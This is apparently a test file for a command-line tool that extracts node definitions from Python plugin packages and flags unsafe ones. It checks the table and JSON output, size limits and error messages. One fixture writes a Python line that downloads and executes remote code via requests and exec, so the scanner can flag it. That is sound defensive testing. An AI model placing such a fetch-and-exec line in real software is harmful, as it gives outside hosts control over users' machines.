import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { suite, test } from 'node:test';
import { zip } from '../support/build.ts';
import { runCommandHere } from '../support/run-command-here.ts';
import { runCommand } from '../support/run-command.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

const files = {
  '__init__.py': 'from .nodes.blur import Blur\n\nNODE_CLASS_MAPPINGS = {"Blur": Blur}\n',
  'nodes/blur.py': 'class Blur:\n    CATEGORY = "image/filter"\n    FUNCTION = "run"\n',
};

suite('npm run extract', () => {
  test('says of a folder and of its zip the same, as a table and as JSON', async (t) => {
    const folder = await temporaryFolder(t);
    await mkdir(join(folder, 'package', 'nodes'), { recursive: true });
    await mkdir(join(folder, 'package', '.git'));
    for (const [name, text] of Object.entries(files)) await writeFile(join(folder, 'package', name), text);
    await writeFile(join(folder, 'package', '.git', 'config'), 'not published');
    await writeFile(join(folder, 'package.zip'), await zip(files));
    const ofFolder = await runCommand('extract', [join(folder, 'package')], {});
    assert.equal(ofFolder.code, 0, ofFolder.stderr);
    assert.match(ofFolder.stdout, /^Blur +image\/filter +run$/m);
    assert.match(ofFolder.stdout, /1 app-nodes; extraction success, confidence 1; checks: passed/);
    const ofZip = await runCommandHere(['extract', join(folder, 'package.zip')], {});
    assert.equal(ofZip.stdout, ofFolder.stdout);
    const json = await runCommandHere(['extract', join(folder, 'package.zip'), '--json'], {});
    assert.deepEqual(JSON.parse(json.stdout).appNodes, [
      { app_node_name: 'Blur', category: 'image/filter', function: 'run', policy: 'AppNodePolicyActive' },
    ]);
  });

  test('ends with 1 and the findings where a publish would be flagged', async (t) => {
    const folder = await temporaryFolder(t);
    await writeFile(
      join(folder, '__init__.py'),
      'import requests\nexec(requests.get("https://example.org").text)\n',
    );
    const result = await runCommandHere(['extract', folder], {});
    assert.equal(result.code, 1);
    assert.match(result.stdout, /^error {3}__init__\.py:2 {2}/m);
  });

  test('does not take a root that is too large to read for an empty one', async (t) => {
    const folder = await temporaryFolder(t);
    const source = 'class Blur:\n    pass\n\n\nNODE_CLASS_MAPPINGS = {"Blur": Blur}\n';
    await writeFile(join(folder, '__init__.py'), source.padEnd(2 * 2 ** 20 + 1, '#'));
    const { stdout } = await runCommandHere(['extract', folder, '--json'], {});
    const { status, confidence, problems } = JSON.parse(stdout);
    assert.deepEqual(
      { status, confidence, problems },
      {
        status: 'failed',
        confidence: 0,
        problems: [{ file: '__init__.py', line: 0, message: 'is too large to read' }],
      },
    );
  });

  test('what cannot be read is said in one line', async (t) => {
    const folder = await temporaryFolder(t);
    await writeFile(join(folder, 'package.zip'), 'not a zip');
    const none = await runCommand('extract', [], {});
    assert.equal(none.code, 1);
    assert.match(none.stderr, /^patchbay: .*\n$/);
    for (const path of ['none', 'package.zip']) {
      const result = await runCommandHere(['extract', join(folder, path)], {});
      assert.equal(result.code, 1);
      assert.match(result.stderr, /^patchbay: .*\n$/);
    }
  });
});
